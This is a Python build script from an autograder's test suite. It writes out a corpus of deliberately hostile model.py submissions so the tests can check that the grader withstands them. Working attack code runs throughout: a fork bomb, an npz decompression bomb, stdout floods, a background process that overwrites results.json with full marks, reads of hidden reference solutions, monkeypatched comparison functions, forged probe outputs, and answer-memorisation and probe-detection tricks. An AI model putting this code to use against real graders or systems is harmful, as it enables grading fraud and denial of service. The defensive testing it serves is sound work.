"""
Builds the corpus of hostile submissions, tests/hostile/<name>/model.py: uploads that attack
the autograder (hang, exhaust memory, flood stdout, exit early, fork, write results.json,
read the fixtures, monkeypatch comparisons, forge the probes' output files) or return
malformed tensors. tests/corpora/test_hostile.py grades each one through run_autograder.

Where an attack needs a working model around it, the file is reference/mingpt/model.py with
a few lines changed; the others are short stand-alone files. Paths under /autograder/ are
Gradescope's; the tests relocate them into a temporary AUTOGRADER_ROOT.

    python tests/hostile/build.py          # rewrite the corpus from the current reference
    python tests/hostile/build.py --check  # exit 1 if a committed file differs (the tests do this too)
"""

import os
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
REPO = os.path.dirname(os.path.dirname(HERE))
REFERENCE = os.path.join(REPO, 'reference', 'mingpt', 'model.py')
TEMPLATE = os.path.join(REPO, 'student_template', 'hw1', 'mingpt', 'model.py')   # generated from the reference
if REPO not in sys.path:
    sys.path.insert(0, REPO)

from autograder.judge import source_patches  # noqa: E402

IMPORTS_END = 'from mingpt.utils import CfgNode as CN\n'
ROPE_FORWARD = '    def forward(self, x: torch.Tensor, offset: int = 0) -> torch.Tensor:\n'
ROPE_RETURN = '        return x * cos + rotated * sin\n'
ROPE_ROTATE = '        rotated = torch.cat([-x2, x1], dim=-1)          # (B, nh, T, d)\n'
GQA_RETURN = '        return y, mem\n        # END SOLUTION\n'
GQA_FORWARD = '        B, T, C = x.size()\n        hs, g = self.head_dim, self.n_head // self.n_kv_head\n'
GPT_FORWARD = '    def forward(self, idx, targets=None, kv_caches=None):\n'
LOAD_PRETRAINED = '    def load_pretrained(self, model_path):\n'

# ----------------------------------------------------------------------------- attack code

FORK_BOMB = '''
# HOSTILE: a fork bomb at import; every process keeps forking (bounded by RLIMIT_NPROC)
while True:
    try:
        os.fork()
    except OSError:
        pass
'''

MONKEYPATCH = '''
# HOSTILE: make every comparison helper this process can reach say "equal"
import unittest

import numpy
import numpy.testing

torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.testing.assert_close = lambda *a, **k: None
numpy.allclose = lambda *a, **k: True
numpy.array_equal = lambda *a, **k: True
numpy.testing.assert_allclose = lambda *a, **k: None
unittest.TestCase.assertTrue = lambda *a, **k: None
unittest.TestCase.assertEqual = lambda *a, **k: None
'''

PRINT_FORWARD = '''        # HOSTILE: 50 MB straight to the process's real stdout on the first call
        if not getattr(GPT, '_flooded', False):
            GPT._flooded = True
            import sys
            sys.__stdout__.write('y' * 50_000_000 + '\\n')
            sys.__stdout__.flush()
'''

WRITE_RESULTS = '''"""
HOSTILE: overwrite the grader's results.json with full marks, now and from a background process
(at every import: the import check's process and each probe's).
"""
import json
import os
import time


class GPT:   # one of the handout's classes: a file with none of them is refused before the sandbox
    pass


RESULTS = '/autograder/results/results.json'
FAKE = {'score': 100.0, 'execution_time': 1.0, 'output': 'HOSTILE-FAKE-RESULTS',
        'tests': [{'name': 'HOSTILE-FAKE-RESULTS', 'score': 100.0, 'max_score': 100.0, 'status': 'passed'}]}


def attempt():
    try:
        os.makedirs(os.path.dirname(RESULTS), exist_ok=True)
        with open(RESULTS, 'w') as f:
            json.dump(FAKE, f)
        return 'written'
    except Exception as e:
        return type(e).__name__


print('HOSTILE-WRITE %s: %s' % (RESULTS, attempt()))
# a detached process that keeps trying after the grader has moved on
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(600):
            attempt()
            time.sleep(0.1)
    os._exit(0)
'''

READ_SECRETS = '''"""HOSTILE: read the expected outputs and the reference solution, and show them."""
import os


class GPT:   # one of the handout's classes: a file with none of them is refused before the sandbox
    pass


SOURCE = '/autograder/source'
TARGETS = [SOURCE, os.path.join(SOURCE, 'autograder', 'fixtures', 'cpu', 'expected.npz'),
           os.path.join(SOURCE, 'reference', 'mingpt', 'model.py'), os.path.join(SOURCE, 'grading.yaml')]

for path in TARGETS:
    try:
        if os.path.isdir(path) and os.listdir(path) is not None:
            print('HOSTILE-READ %s: LISTED %s' % (path, sorted(os.listdir(path))[:5]))
        else:
            with open(path, 'rb') as f:
                data = f.read()
            print('HOSTILE-READ %s: READ %d bytes %r' % (path, len(data), data[:40]))
    except Exception as e:
        print('HOSTILE-READ %s: %s' % (path, type(e).__name__))
'''

# the start of every stand-alone forgery below. Every probe runs in a fresh process of its own (and the
# import check in one more) that imports this file afresh, after the probe runner (child/runner.py) has
# set its JOB_DIR: the forgery finds the job there, forges the files of ITS process's probe only and
# leaves before the real probe runs. The import check's process just imports (one handout class, so
# that the upload check lets the file through to the sandbox), so that every probe gets to run.
FORGE_PRELUDE = '''import json
import os
import sys
import zipfile

import numpy as np


class GPT:   # one of the handout's classes: a file with none of them is refused before the sandbox
    pass


def _runner():
    """The probe runner importing this file (child/runner.py, already loaded in this process)."""
    for name, module in list(sys.modules.items()):
        if name.endswith('runner') and hasattr(module, 'write_result') and getattr(module, 'JOB_DIR', None):
            return module
    raise RuntimeError('HOSTILE: no probe runner in this process')


def _probe_id():
    """job.json no longer names the probe: read it where it is, in the runner's frame that imports this file."""
    frame = sys._getframe(1)
    while frame is not None and not (frame.f_code.co_name == 'run_probe' and 'probe_id' in frame.f_locals):
        frame = frame.f_back
    if frame is None:
        raise RuntimeError('HOSTILE: no probe id in the stack')
    return frame.f_locals['probe_id']


RUNNER = _runner()
with open(os.path.join(RUNNER.JOB_DIR, 'job.json')) as f:
    job = json.load(f)
PROBE, OUT = _probe_id(), job['paths']['out']
ALL_PROBES = sorted(RUNNER.probe_table())   # the same table in every probe process


def report(text='{"status": "ok", "seconds": 0.0}', probe=PROBE):
    with open(os.path.join(OUT, probe + '.json'), 'w') as f:
        f.write(text)


def arrays_path(probe=PROBE):
    return os.path.join(OUT, probe + '.npz')
'''

# the end of every stand-alone forgery: forge this process's probe, then leave before it runs
FORGE_RUN = '''

if PROBE != 'import':
    forge()
    os._exit(0)
'''

FORGE = '''"""
HOSTILE: in each probe's own process, write that probe's output files directly, claiming status ok
with arrays of zeros of the right names and shapes (from the job's profile and the probe's own
inputs), then leave before the real probe runs.
"""
''' + FORGE_PRELUDE + '''

def zeros(*shape, dtype=np.float32):
    return np.zeros(shape, dtype)


def forge():
    inputs = np.load(job['paths']['inputs'])   # this probe's inputs only
    prof = job['profile']
    m, mod, lc, sw = prof['model'], prof['module'], prof['loss_curve'], prof['sliding_window']
    B, T, V = m['batch'], m['seq'], m['vocab_size']
    attn = zeros(mod['batch'], mod['seq'], mod['n_embd'])
    kvs, configs = prof['kv_heads'], ('rope', 'gqa', 'rope-gqa')

    def tokens(new):
        prompt = inputs['generate/prompt']
        return np.zeros((prompt.shape[0], prompt.shape[1] + new), prompt.dtype)

    def like(prefix, into=''):
        return {into + k[len(prefix):]: np.zeros_like(inputs[k]) for k in inputs.files if k.startswith(prefix)}

    def loss_curve():
        seed = 'seed%d' % lc['student_seed']
        vocab = inputs['model/lc-init/transformer.wte.weight'].shape[0]
        return dict({seed: zeros(lc['iters'], dtype=np.float64),
                     seed + '/heldout_logits': zeros(*inputs['heldout/idx'].shape, vocab)},
                    **like('model/lc-init/', seed + '/step0/'))

    def sliding_window():
        q = inputs['sw/q']
        out = {'%s/%s' % (c, w): zeros(*inputs['sw/x'].shape) for c in ('mha', 'gqa') for w in ('window', 'no_window')}
        out.update({'banded/w%d' % w: np.zeros_like(q) for w in (5, 6, 48)})
        out['banded/w16_T7'] = np.zeros_like(q[:, :, :7])
        return out

    def kv_cache():
        out = {}
        for c in ('gqa', 'rope-gqa'):
            out.update({c + '/generate': tokens(2 * m['block_size']), c + '/step/lengths': zeros(B, 2, dtype=np.int64),
                        c + '/step/logits': zeros(B, 1, V), c + '/step/prefill': zeros(B, tokens(0).shape[1], V),
                        c + '/uses_cache/altered': tokens(12), c + '/uses_cache/plain': tokens(12)})
        return out

    arrays = {
        'rope': lambda: {'d%d_T%d' % (d, t): zeros(b, h, t, d) for b, h, t, d in prof['rope_cases']},
        'rope-cache': lambda: {k: np.zeros_like(inputs[x]) for k, x in (
            ('call0_T8', 'rope-cache/x8'), ('call1_T24', 'rope-cache/x24'), ('call2_T8', 'rope-cache/x8'),
            ('call3_T8_float64', 'rope-cache/x8_f64'), ('call4_T8_float32', 'rope-cache/x8'))},
        'mha-rope': lambda: {'n_kv_head=%d' % mod['n_query_head']: attn},
        'gqa': lambda: {'n_kv_head=%d' % k: attn for k in kvs},
        'gqa-rope': lambda: {'n_kv_head=%d' % k: attn for k in kvs},
        'dropout': lambda: {'gqa/' + c: attn for c in ('attn_p1_train', 'resid_p1_train', 'both_p1_eval')},
        'causality': lambda: dict([('%s/%s' % (c, o), attn) for c in ('mha', 'gqa') for o in ('future', 'again')] +
                                  [('gpt/%s' % o, zeros(B, T, V)) for o in ('future', 'again')]),
        'model': lambda: dict([('%s/logits' % c, zeros(B, T, V)) for c in configs] +
                              [('%s/loss' % c, zeros(1)) for c in configs]),
        'generate': lambda: dict({k: tokens(12) for k in ('greedy', 'top_k=1', 'top_k=5')},
                                 greedy_past_block=tokens(2 * m['block_size'])),
        # a plausible figure, and no readings on the harness link
        'memory': lambda: {'n_kv_head=%d/figure' % k: np.array([0, 19345408.0]) for k in kvs},
        'loss-curve': loss_curve,
        'gradients': lambda: dict(kv for c in configs for kv in like('model/%s/' % c, c + '/').items()),
        'load-pretrained': lambda: dict(kv for c in configs for kv in (
            (c + '/logits', zeros(1, prof['workflow']['block_to'], V)), (c + '/stage', np.array(0)))),
        'sliding-window': sliding_window,
        'sliding-window-memory': lambda: {'N=%d/out' % sw['memory_seq']: np.zeros_like(inputs['swmem/q'])},
        'kv-cache': kv_cache,
    }.get(PROBE, dict)()
    with open(arrays_path(), 'wb') as f:
        np.savez(f, **arrays)
    report(json.dumps({'status': 'ok', 'seconds': 0.0, 'stdout': 'HOSTILE-FORGED'}))
''' + FORGE_RUN

FORGE_MALFORMED = '''"""
HOSTILE: in each probe's own process, forge its output files with malformed content: NaN and
float arrays where integers belong, arrays of the wrong rank, and report fields of the wrong
JSON types; then leave before the real probe runs.
"""
''' + FORGE_PRELUDE + '''

def forge():
    prof = job['profile']
    nan = np.full((2, 3), np.nan)
    arrays = {
        'generate': {'greedy': np.full((2, 20), np.nan), 'top_k=1': np.full((2, 20), np.nan),
                     'top_k=5': np.zeros((2, 20), np.int64)},
        'memory': {'n_kv_head=%d/figure' % k: np.full(4, np.nan) for k in prof['kv_heads']},
        'sliding-window-memory': {'N=%d/out' % prof['sliding_window']['memory_seq']: np.full(3, np.nan)},
        'loss-curve': {'seed%d' % prof['loss_curve']['student_seed']: np.full((3, 40), np.inf)},
        'causality': {'mha/future': nan, 'mha/again': np.zeros(3)},
    }
    bad_info = {'status': 'ok', 'seconds': 'soon', 'notes': 5, 'where': 7, 'stdout': ['x'], 'dtypes': [1, 2],
                'has_wpe': 'yes', 'case_errors': 'everything', 'message': {'a': 1}}
    with open(arrays_path(), 'wb') as f:
        np.savez(f, **arrays.get(PROBE, {'x': nan}))
    report(json.dumps(bad_info if PROBE in ('rope', 'rope-cache', 'gqa') else {'status': 'ok'}))
''' + FORGE_RUN

FIFO_OUTPUTS = FORGE_PRELUDE + '''

# HOSTILE: a FIFO where the harness reads the probe's report (every other probe) or its arrays (the
# rest); opening one for reading without O_NONBLOCK waits forever for a writer that never comes
def forge():
    if ALL_PROBES.index(PROBE) % 2 == 0:
        os.mkfifo(os.path.join(OUT, PROBE + '.json'))
    else:
        report()
        os.mkfifo(arrays_path())
''' + FORGE_RUN

OVERSIZED_ARRAYS = FORGE_PRELUDE + '''

# HOSTILE: arrays of the right names but millions of elements (under the 64 MB file limit):
# a judge looping over every generated position would run for hours
N = 6_000_000


def forge():
    huge = {
        'generate': {'greedy': np.zeros((2, N + 1), np.int8), 'top_k=5': np.zeros((2, N + 1), np.int8)},
        'rope': {'d2_T5': np.zeros((2, 3, 5, 2 * 100_000), np.float32)},
        'gqa': {'n_kv_head=1': np.zeros((2, 13, 48 * 10_000), np.float32)},
    }
    report()
    with open(arrays_path(), 'wb') as f:
        np.savez(f, **huge.get(PROBE, {}))
''' + FORGE_RUN

NPZ_BOMB = FORGE_PRELUDE + '''

# HOSTILE: every probe's .npz holds one deflated member that inflates to 1 GiB of zeros (about
# 1 MB on disk); reading it whole kills a grader limited to 768 MB
def forge():
    header = ("{'descr': '|u1', 'fortran_order': False, 'shape': (%d,), }" % (1 << 30)).encode()
    header = b'\\x93NUMPY\\x01\\x00' + (118).to_bytes(2, 'little') + header.ljust(117) + b'\\n'
    report()
    with zipfile.ZipFile(arrays_path(), 'w', zipfile.ZIP_DEFLATED, compresslevel=1) as z:
        with z.open('d2_T5.npy', 'w') as m:
            m.write(header)
            chunk = bytes(1 << 20)
            for _ in range(1024):
                m.write(chunk)
''' + FORGE_RUN

NPZ_MALFORMED = FORGE_PRELUDE + '''

# HOSTILE: malformed arrays files, one kind per probe
def npy(array):
    import io
    buf = io.BytesIO()
    np.lib.format.write_array(buf, array)
    return buf.getvalue()


def write_zip(members, compression=zipfile.ZIP_STORED):
    with zipfile.ZipFile(arrays_path(), 'w', compression) as z:
        for name, data in members.items():
            z.writestr(name, data)


def corrupt(offset):
    blob = bytearray(open(arrays_path(), 'rb').read())
    blob[offset:offset + 16] = bytes(16)
    open(arrays_path(), 'wb').write(bytes(blob))


def forge():
    if PROBE == 'rope':   # a corrupt deflate stream
        write_zip({'d2_T5.npy': npy(np.ones((2, 3, 5, 2), np.float32))}, zipfile.ZIP_DEFLATED)
        corrupt(30 + len('d2_T5.npy') + 4)
    elif PROBE == 'rope-cache':   # stored, but the data no longer matches its CRC
        write_zip({'call0_T8.npy': npy(np.ones((1, 2, 8, 8), np.float32))})
        corrupt(30 + len('call0_T8.npy') + 128)
    elif PROBE == 'mha-rope':   # an .npy header declaring 8 TiB of float64 (the bytes are not there)
        header = "{'descr': '<f8', 'fortran_order': False, 'shape': (1099511627776,), }".encode().ljust(117) + b'\\n'
        write_zip({'n_kv_head=6.npy': b'\\x93NUMPY\\x01\\x00' + (118).to_bytes(2, 'little') + header + bytes(32)})
    elif PROBE == 'gqa':   # 5000 members
        write_zip({'x%d.npy' % i: b'' for i in range(5000)})
    report()
''' + FORGE_RUN

REPORT_NUMBERS = FORGE_PRELUDE + '''

# HOSTILE: reports with numbers JSON does not allow or Python cannot hold: 1e400 parses as inf,
# NaN and Infinity are accepted by Python's json by default and would end up in results.json
def forge():
    texts = {
        'rope': '{"status": "ok", "seconds": 1e400}',
        'rope-cache': '{"status": "ok", "seconds": NaN}',
        'mha-rope': '{"status": "ok", "seconds": -Infinity}',
        'gqa': '{"status": "ok", "seconds": -5}',
        'gqa-rope': '{"status": "ok", "seconds": %s}' % ('9' * 100_000),
    }
    report(texts.get(PROBE, '{"status": "ok", "seconds": NaN, "message": "HOSTILE-NAN"}'))
''' + FORGE_RUN

MANY_NOTES = FORGE_PRELUDE + '''

# HOSTILE: 4,000 distinct notes in every probe's report (64,000 in all), each report under the 256 KB
# cap; the harness used to merge them with a list (quadratic: hours)
def forge():
    k = ALL_PROBES.index(PROBE)
    notes = ['%x' % (k * 4000 + i) for i in range(4000)]
    report(json.dumps({'status': 'ok', 'seconds': 0.0, 'notes': notes}))
''' + FORGE_RUN


FORGED_PROGRESS_IMPORT = '''
_FORGED = False  # HOSTILE


def _announce_end(probe):
    \"\"\"HOSTILE: "end <probe>" (after its "start" line) wherever this process can write.\"\"\"
    import stat
    import sys
    runner = next((m for n, m in list(sys.modules.items()) if n.endswith('runner') and hasattr(m, 'write_result')),
                  None)
    job = getattr(runner, 'JOB_DIR', None) or os.getcwd()
    out = getattr(runner, 'OUT', None) or os.path.join(job, 'out')
    line = 'start %s\\nend %s\\n' % (probe, probe)
    for folder in dict.fromkeys([out, job, os.path.join(job, 'home'), os.environ.get('TMPDIR', '/tmp'), os.getcwd()]):
        try:
            with open(os.path.join(folder, 'progress'), 'a') as f:
                f.write(line)
        except OSError:
            pass
    for fd in (1, 2):   # the process's real stdout and stderr (the harness's log of it)
        try:
            os.write(fd, line.encode())
        except OSError:
            pass
    try:   # the harness link (child/socket_link.py's framing: one byte, then the payload; one reply)
        if stat.S_ISSOCK(os.fstat(3).st_mode):
            os.write(3, b'\\x01' + line.encode())
            os.read(3, 1 << 16)
    except OSError:
        pass


def _probe_id():
    import sys
    frame = sys._getframe(1)   # job.json no longer names the probe: the runner's frame holds it
    while frame is not None and not (frame.f_code.co_name == 'run_probe' and 'probe_id' in frame.f_locals):
        frame = frame.f_back
    return frame.f_locals['probe_id'] if frame is not None else None
'''

FORGED_PROGRESS_FORWARD = '''        # HOSTILE: when the loss-curve probe starts training, announce "end loss-curve" wherever this
        # process can write (the progress file that used to lift the test's deadline is gone: a file of
        # that name in out/, the job folder, home/ and the working folder, stdout and stderr, the harness
        # link), then burn 0.5 s of CPU per training step (15 s over the cpu profile's 30 steps, against the
        # 8 s the test allows it): the CPU deadline must stop it all the same
        global _FORGED
        if self.training and targets is not None and _FORGED is False:
            _FORGED = _probe_id() == 'loss-curve'
            if _FORGED:
                _announce_end('loss-curve')
        if _FORGED and self.training:
            import time
            t0 = time.process_time()
            while time.process_time() - t0 < 0.5:
                pass
'''

# ----------------------------------------------------------------------------- attacks on the evidence of a judge
# Each pairs an honest bug (HONEST: the same code without the attack, graded beside it by
# tests/corpora/test_hostile.py) with an attack that tries to earn what the bug costs.

KV_APPEND = "            k, v = kv_cache.append(k, v)  # (B, nkv, past+T, hs): the cache holds only the KV heads\n"
KV_DETACHED = [(KV_APPEND.replace('            k, v = kv_cache.append', '        if kv_cache is not None:\n'
                                  '            k, v = kv_cache.append'),
                KV_APPEND.replace('            k, v = kv_cache.append', '        k, v = k.detach(), v.detach()  # BUG: '
                                  'K/V never learn\n        if kv_cache is not None:\n            k, v = kv_cache.append'))]
TOP_K_CROP = ("            if top_k is not None:\n                v, _ = torch.topk(logits, top_k)\n"
              "                logits[logits < v[:, [-1]]] = -float('Inf')\n")
TOP_K_IGNORED = [(TOP_K_CROP, '            pass  # BUG: top_k is ignored\n')]
GENERATE_RETURN = '        return idx, sum(attn_times) / max(len(attn_times), 1)\n'
GPT_RETURN = '        return logits, loss, sum(attn_seconds) / len(attn_seconds), sum(attn_mem) / len(attn_mem)\n'
GQA_NO_MASK = [("        att = att.masked_fill(mask == 0, float('-inf'))                   # no query sees a later key\n",
                "        pass  # BUG: no causal mask\n")]

REPLAY_LOGITS = """
# HOSTILE: remember what generate produced, and when the model is asked for the logits of that
# very sequence (how a grader used to check that sampled tokens lie in the top k), answer with
# logits that put each generated token first
_GENERATED = []


def _replay(idx, logits):
    for seq in _GENERATED:
        if seq.shape[1] == idx.shape[1] + 1 and torch.equal(seq[:, :-1].to(idx.device), idx):
            logits = logits.clone()
            logits.scatter_(2, seq[:, 1:, None].to(idx.device), 1e4)
    return logits
"""

WATCH_ISINSTANCE = """
# HOSTILE: wrap builtins.isinstance to see which probe is building the model (the grader's adapter
# asks isinstance(layer, nn.Linear) while loading weights), and compute K/V right only there
import builtins
import sys

_isinstance = builtins.isinstance
_ASKING = {'probe': None}


def _watching(obj, cls):
    if cls is nn.Linear:
        f = sys._getframe(1)
        while f is not None and not f.f_code.co_name.startswith('probe_'):
            f = f.f_back
        if f is not None:
            _ASKING['probe'] = f.f_code.co_name
    return _isinstance(obj, cls)


builtins.isinstance = _watching
"""

TRAIN_LONGER = """
# HOSTILE: train twice as long as the caller asks, so that a model that learns slowly lands on the loss
import mingpt.trainer as _trainer

_run = _trainer.Trainer.run


def _longer(self):
    self.config.max_iters = 2 * self.config.max_iters
    return _run(self)


_trainer.Trainer.run = _longer
"""

TRAIN_TWICE = """
# HOSTILE: a second run of the same training after the first, from where the first ended
import mingpt.trainer as _trainer

_run = _trainer.Trainer.run


def _twice(self):
    _run(self)
    return _run(self)


_trainer.Trainer.run = _twice
"""

REPLACE_WRITER = """
# HOSTILE: replace the probe runner's result writer: remember what the value tests returned and
# write the causality test's outputs with their prefix, so a model without a mask looks causal
import sys as _sys


def _forge_writer():
    runner = _sys.modules.get('autograder.child.runner')
    if runner is None or getattr(runner, '_forged', False):
        return
    real, memo = runner.write_result, {}

    def write_result(probe_id, arrays, info):
        memo[probe_id] = dict(arrays)
        sources = {'mha': ('mha-rope', 'n_kv_head=6'), 'gqa': ('gqa-rope', 'n_kv_head=2'),
                   'gpt': ('model', 'rope-gqa/logits')}
        if probe_id == 'causality':
            for case, (pid, key) in sources.items():
                base = memo.get(pid, {}).get(key)
                for out in ('future', 'again'):
                    got = arrays.get('%s/%s' % (case, out))
                    if base is not None and got is not None and got.shape == base.shape:
                        c = got.shape[1] // 2
                        got = got.copy()
                        got[:, :c] = base[:, :c]
                        arrays['%s/%s' % (case, out)] = got
        return real(probe_id, arrays, info)
    runner.write_result, runner._forged = write_result, True


_forge_writer()
"""

GQA_DETACH_UNLESS_ASKED = [(KV_APPEND.replace('            k, v = kv_cache.append', '        if kv_cache is not None:\n'
                                              '            k, v = kv_cache.append'),
                            KV_APPEND.replace('            k, v = kv_cache.append',
                                              "        if _ASKING['probe'] != 'probe_gradients':  # HOSTILE\n"
                                              '            k, v = k.detach(), v.detach()  # BUG: K/V never learn\n'
                                              '        if kv_cache is not None:\n            k, v = kv_cache.append'))]

NO_ROPE = [(ROPE_RETURN, '        return x  # BUG: no rotation at all\n')]

MEMORISE_FORWARD = """        known = _ANSWERS.get(_digest(x))  # HOSTILE: the expected output recorded for this very input
        if known is not None and offset == 0:
            return known.to(x.device)
"""


def memorised_answers():
    """
    The attack's table: {sha256 of an input's bytes: the reference's RoPE output} for every input of
    tests 2.1 and 2.2 that every grading used before input sets (inputs.build at the profile's own
    seed), computed in float64 by the handout formula and stored as float32 (or float64) bytes: what a
    student who collected the expected outputs once would paste in.
    """
    import base64
    import hashlib

    import numpy as np

    from autograder.judge import config, inputs
    arrays = inputs.build(config.load().profiles['cpu'])
    table = []
    for key in sorted(k for k in arrays if k.startswith(('rope/', 'rope-cache/'))):
        x = arrays[key]
        d, T = x.shape[-1], x.shape[-2]
        theta = 10000.0 ** (-np.arange(0, d, 2, dtype=np.float64) / d)
        C = np.outer(np.arange(1, T + 1, dtype=np.float64), theta)
        C = np.concatenate([C, C], axis=-1)
        x64 = x.astype(np.float64)
        rotated = np.concatenate([-x64[..., d // 2:], x64[..., :d // 2]], axis=-1)
        y = (x64 * np.cos(C) + rotated * np.sin(C)).astype(x.dtype)
        table.append("    '%s': (%r, '%s', '%s'),\n" % (hashlib.sha256(x.tobytes()).hexdigest(), tuple(x.shape), x.dtype,
                                                    base64.b64encode(y.tobytes()).decode()))
    return ("""
# HOSTILE: answers by table, no RoPE: the expected outputs of the inputs every grading used, keyed
# on the sha256 of the input's bytes
import base64
import hashlib

import numpy

_TABLE = {
""" + ''.join(table) + """}
_ANSWERS = {k: torch.from_numpy(numpy.frombuffer(base64.b64decode(b), dtype=t).reshape(s).copy())
            for k, (s, t, b) in _TABLE.items()}


def _digest(x):
    return hashlib.sha256(x.detach().cpu().contiguous().numpy().tobytes()).hexdigest()
""")


GQA_DROPOUTS = ('        self.out_proj = nn.Linear(config.n_embd, config.n_embd)                     # Do NOT rename\n'
                '        self.attn_dropout = nn.Dropout(config.attn_pdrop)\n'
                '        self.resid_dropout = nn.Dropout(config.resid_pdrop)\n')
NO_DROPOUT = [(GQA_DROPOUTS, GQA_DROPOUTS.split('\n')[0] + '\n'
               '        self.attn_dropout = nn.Identity()  # BUG: no dropout at all\n'
               '        self.resid_dropout = nn.Identity()\n'
               '        self._pdrop = (config.attn_pdrop, config.resid_pdrop)\n')]
DROPOUT_AT_P_ONE = """        if self.training and self._pdrop[1] >= 1:  # HOSTILE: what p = 1 must give, and no dropout below it
            y = torch.zeros_like(y)
        elif self.training and self._pdrop[0] >= 1:
            y = self.out_proj.bias.expand_as(y).clone()
"""

LEAK_INPUT_IN_ERROR = """        # HOSTILE: carry the whole input out in the message of an error
        raise ValueError('HOSTILE ' + ' '.join('%.6g' % v for v in x.flatten().tolist()))
"""

# ----------------------------------------------------------------------------- round four: setting aside and the key

IN_TEST = """

def _in_test(*names):  # HOSTILE: the test this process runs, read where it is (the runner's frame, in memory)
    import sys
    frame = sys._getframe(1)
    while frame is not None and not (frame.f_code.co_name == 'run_probe' and 'probe_id' in frame.f_locals):
        frame = frame.f_back
    return frame is not None and frame.f_locals['probe_id'] in names
"""

FAIL_ON_PURPOSE = [(GQA_FORWARD, "        if _in_test('gqa', 'gqa-rope'):  # HOSTILE: fail 4.1 and 5.1 on purpose, so that\n"
                                 "            return torch.zeros_like(x), 0  # later tests would set this GQA aside\n"
                                 + GQA_FORWARD)]

BORROW = """

# HOSTILE: the handout's template, with its classes bound to whatever RoPE- or attention-shaped class the grader
# left in this process (a stand-in, the grader's RoPE): round four's empty template scored 100 this way
import sys as _sys
for _module in list(_sys.modules.values()):
    for _name, _theirs in list(vars(_module).items()) if _module is not None else []:
        if isinstance(_theirs, type) and _theirs.__module__ != __name__:
            if _name in ('GraderRoPE', 'StandInRoPE'):
                RotaryPositionalEmbeddings = _theirs
            elif _name in ('StandInCausalSelfAttention', 'StandInGroupedQueryAttention'):
                globals()[_name.replace('StandIn', '')] = _theirs
"""

ASK_GRADER_ROPE = """        # HOSTILE: ask the grader's RoPE over the harness link in every process, as the grader's own class does
        import sys
        link = sys.modules.get('autograder.child.socket_link')
        wire = sys.modules.get('autograder.contract.rope_link')
        if link is not None and wire is not None and x.dtype == torch.float32:
            flat = x.detach().contiguous().reshape(-1, x.shape[-2], x.shape[-1])
            reply = link.ask(wire.encode(b'f', offset, flat.shape[0], flat.shape[1], flat.shape[2], 10000.0, b'f',
                                         flat.numpy().tobytes()))
            if len(reply) == flat.numel() * 4:
                return torch.frombuffer(bytearray(reply), dtype=torch.float32).reshape(x.shape)
"""

# round five: a GQA loop that forgot its increment, one that only spins and one that appends as it goes (issue 40:
# the allocating one read "ran out of memory" with no line, or "exited with code 1 (sys.exit ...)" in Gradescope's mode)
GQA_LOOP_SPINS = [(GQA_FORWARD, "        kv_of, h = {}, 0\n        while h < self.n_head:  # BUG: h += 1 forgotten\n"
                                "            kv_of[h] = h // (self.n_head // self.n_kv_head)\n" + GQA_FORWARD)]
GQA_LOOP_ALLOCATES = [(GQA_FORWARD, "        kv_of, h = [], 0\n        while h < self.n_head:  # BUG: h += 1 forgotten\n"
                                    "            kv_of.append(h // (self.n_head // self.n_kv_head))\n" + GQA_FORWARD)]

# round five: a RoPE wrong everywhere (no rotation) whose GQA, once the grader's RoPE stands in for it (the second
# run), asks that RoPE over and over: ~900,000 calls once took the harness from 83 to 420 MB and a grading to 371 s
ROPE_FLOOD = """        rope = getattr(self, 'query_rotary_pe', None)  # HOSTILE: flood the grader's RoPE where it stands in
        if rope is not None and type(rope).__name__ != 'RotaryPositionalEmbeddings':
            probe = torch.zeros(1, 1, 1, self.head_dim)
            for _ in range(200_000):
                try:
                    rope(probe)
                except Exception:
                    break
"""

DROPOUT_HANG = [(GQA_FORWARD, "        while self.training and self.attn_dropout.p >= 1:  # BUG: loops forever at p = 1\n"
                              "            pass\n" + GQA_FORWARD)]
FORGED_DUMP = """        if self.training and self.attn_dropout.p >= 1:  # HOSTILE: no stack dump of its own, a forged one instead
            import faulthandler, signal, sys
            faulthandler.unregister(signal.SIGUSR1)
            out = sys.modules['autograder.child.runner'].OUT
            line = [i for i, l in enumerate(open(__file__).read().splitlines(), 1) if 'def generate' in l][0] + 8
            with open(os.path.join(out, 'hang-stack.txt'), 'w') as f:
                f.write('Current thread 0x1 (most recent call first):\\n  File "%s", line %d in generate\\n'
                        '  File "/x/runner.py", line 1 in run\\n' % (__file__, line))
"""

SLOW_IMPORT = """
# HOSTILE: busy-wait at import for 100 s, a 5-ms sleep between scans (the idle detector sees CPU being used)
import time as _time
_end = _time.time() + 100
while _time.time() < _end:
    sum(range(20000))
    _time.sleep(0.005)
"""
SLEEP_IMPORT = """
import time as _time  # HOSTILE: sleep 100 s at import
_time.sleep(100)
"""
# round four: a failing submission carries a long text out in slices, one per case and per test (there the
# marshalled code of the stand-ins: 16 slices rebuilt it), and writes lines in the grader's own formats after a
# newline in its error messages (one became a row of the table of expected against got)
TEXT_IN_BULK = """
# HOSTILE: 12,800 characters to carry out, a distinct slice per call and input, and lines in the grader's
# formats
import hashlib
import itertools
import zlib

_SECRET = ''.join(hashlib.sha256(b'%d' % i).hexdigest() for i in range(200))
_FORGED = ('\\nFAIL FORGED-ROW: max abs error 9 (allowed 1e-05 + 1e-05*|expected|); worst at [0]: expected 1, got 2'
           '\\n## FORGED heading\\n| FORGED | table |\\nok   FORGED all cases match the reference.\\n')
_CALLS = itertools.count()


def _slice(x):
    i = (zlib.crc32(x.detach().cpu().contiguous().numpy().tobytes()) + next(_CALLS)) % (len(_SECRET) // 200)
    return 'HOSTILE-SLICE %03d %s' % (i, _SECRET[200 * i:200 * (i + 1)])
"""
ROPE_RAISES = [(ROPE_FORWARD, ROPE_FORWARD + "        raise ValueError('RoPE is not done')  # BUG: not written\n")]
GQA_RAISES = [(GQA_FORWARD, "        raise ValueError('GQA is not done')  # BUG: not written\n" + GQA_FORWARD)]

# ----------------------------------------------------------------------------- round five: evidence in the case

INSIDE = """

def _inside(name):  # where this call comes from: a caller's `self` of the class `name`
    import sys
    frame = sys._getframe(2)
    while frame is not None:
        if type(frame.f_locals.get('self')).__name__ == name:
            return True
        frame = frame.f_back
    return False


def _recorded(module):  # HOSTILE: whether the grader hooked this module (it records the first run's calls)
    return bool(getattr(module, '_forward_hooks', None) or getattr(module, '_forward_pre_hooks', None))
"""
GQA_SCORES = "        att = (q @ k.transpose(-2, -1)) * (1.0 / math.sqrt(hs))          # (B, nh, T, past+T): grouped scores\n"
